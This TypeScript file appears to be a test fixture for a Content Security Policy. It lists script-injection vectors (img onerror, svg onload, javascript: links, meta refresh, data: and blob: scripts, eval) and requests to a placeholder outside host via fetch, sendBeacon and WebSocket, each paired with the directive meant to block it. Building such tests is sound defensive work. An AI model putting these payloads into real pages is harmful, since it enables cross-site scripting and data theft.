/** One way to bring something foreign into a page that is served. `{away}` stands for another origin, `{run}` for what would show that it ran. */
export interface Injected {
  readonly name: string;
  /** Run in the page; what it puts there is what an attacker would have got in. */
  readonly script: string;
  /** The directive that refuses it; none where the browser itself does not even try. */
  readonly directive?: string;
}

const html = (text: string) => `box.innerHTML = ${JSON.stringify(text)};`;
const element = (tag: string, values: Readonly<Record<string, string>>) =>
  `box.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(values)}));`;
const blob = "URL.createObjectURL(new Blob(['{run}'], { type: 'text/javascript' }))";

export const INJECTED: readonly Injected[] = [
  { name: 'an inline script', script: element('script', { textContent: '{run}' }), directive: 'script-src-elem' },
  {
    name: 'an inline module',
    script: element('script', { type: 'module', textContent: '{run}' }),
    directive: 'script-src-elem',
  },
  {
    name: 'a script from elsewhere',
    script: element('script', { src: '{away}/run.js' }),
    directive: 'script-src-elem',
  },
  {
    name: 'a script in a data: address',
    script: element('script', { src: 'data:text/javascript,{run}' }),
    directive: 'script-src-elem',
  },
  {
    name: 'a script in a blob: address',
    script: `box.append(Object.assign(document.createElement('script'), { src: ${blob} }));`,
    directive: 'script-src-elem',
  },
  {
    name: 'a handler of a picture that fails',
    script: html('<img src="/none.png" onerror="{run}">'),
    directive: 'script-src-attr',
  },
  { name: 'a handler of an svg', script: html('<svg onload="{run}"><circle r="9"/></svg>') },
  {
    name: 'a script within an svg',
    script:
      "const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const inner = document.createElementNS('http://www.w3.org/2000/svg', 'script'); inner.textContent = '{run}'; svg.append(inner); box.append(svg);",
    directive: 'script-src-elem',
  },
  {
    name: 'a handler of details',
    script: html('<details open ontoggle="{run}"><summary>x</summary></details>'),
    directive: 'script-src-attr',
  },
  {
    name: 'a handler of focus',
    script: html('<input autofocus onfocus="{run}">').concat("box.querySelector('input').focus();"),
    directive: 'script-src-attr',
  },
  {
    name: 'a javascript: link',
    script: html('<a href="javascript:{run}">x</a>').concat("box.querySelector('a').click();"),
    directive: 'script-src-elem',
  },
  {
    name: 'a javascript: frame',
    script: element('iframe', { src: 'javascript:parent.{run}' }),
    directive: 'frame-src|script-src-elem',
  },
  { name: 'a frame from elsewhere', script: element('iframe', { src: '{away}/page' }), directive: 'frame-src' },
  { name: 'a frame of its own text', script: element('iframe', { srcdoc: '<script>parent.{run}</script>' }) },
  { name: 'an object', script: element('object', { data: '{away}/page', type: 'text/html' }), directive: 'object-src' },
  {
    name: 'an embedded page',
    script: element('embed', { src: '{away}/page', type: 'text/html' }),
    directive: 'object-src',
  },
  {
    name: 'another base of all addresses',
    script: "document.head.append(Object.assign(document.createElement('base'), { href: '{away}/' }));",
    directive: 'base-uri',
  },
  {
    name: 'a form that leads elsewhere',
    script: html('<form action="{away}/form" method="post"><input name="a"></form>').concat(
      "box.querySelector('form').submit();",
    ),
    directive: 'form-action',
  },
  {
    name: 'a refresh to a script',
    script:
      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=javascript:{run}' }));",
  },
  {
    name: 'a style that asks elsewhere',
    script: element('style', { textContent: 'body { background: url({away}/style?value) }' }),
    directive: 'style-src-elem',
  },
  {
    name: 'a style attribute that asks elsewhere',
    script: html('<p style="background: url({away}/attribute)">x</p>'),
    directive: 'style-src-attr',
  },
  {
    name: 'a sheet of styles from elsewhere',
    script: element('link', { rel: 'stylesheet', href: '{away}/sheet.css' }),
    directive: 'style-src-elem',
  },
  { name: 'a picture from elsewhere', script: element('img', { src: '{away}/picture' }), directive: 'img-src' },
  { name: 'a film from elsewhere', script: element('video', { src: '{away}/film' }), directive: 'media-src' },
  {
    name: 'a font from elsewhere',
    script: "new FontFace('x', 'url({away}/font)').load().catch(() => undefined);",
    directive: 'font-src',
  },
  { name: 'a request elsewhere', script: "fetch('{away}/request').catch(() => undefined);", directive: 'connect-src' },
  { name: 'a beacon', script: "navigator.sendBeacon('{away}/beacon', 'x');", directive: 'connect-src' },
  {
    name: 'a line elsewhere',
    script: "try { new WebSocket('{away}/line'.replace('http', 'ws')); } catch {}",
    directive: 'connect-src',
  },
  { name: 'a stream of events elsewhere', script: "new EventSource('{away}/events');", directive: 'connect-src' },
  {
    name: 'an import of a data: address',
    script: "import('data:text/javascript,{run}').catch(() => undefined);",
    directive: 'script-src-elem',
  },
  {
    name: 'an import from elsewhere',
    script: "import('{away}/run.js').catch(() => undefined);",
    directive: 'script-src-elem',
  },
  { name: 'a worker in a blob: address', script: `try { new Worker(${blob}); } catch {}`, directive: 'worker-src' },
  {
    name: 'a worker in a data: address',
    script: 'try { new Worker(\'data:text/javascript,fetch("{away}/worker")\'); } catch {}',
    directive: 'worker-src',
  },
  {
    name: 'a shared worker',
    script: 'try { new SharedWorker(\'data:text/javascript,fetch("{away}/shared")\'); } catch {}',
    directive: 'worker-src',
  },
  { name: 'eval', script: "try { (0, eval)('{run}'); } catch {}", directive: 'script-src' },
  { name: 'a function made of text', script: "try { new Function('{run}')(); } catch {}", directive: 'script-src' },
  { name: 'a timer made of text', script: "setTimeout('{run}');", directive: 'script-src' },
];
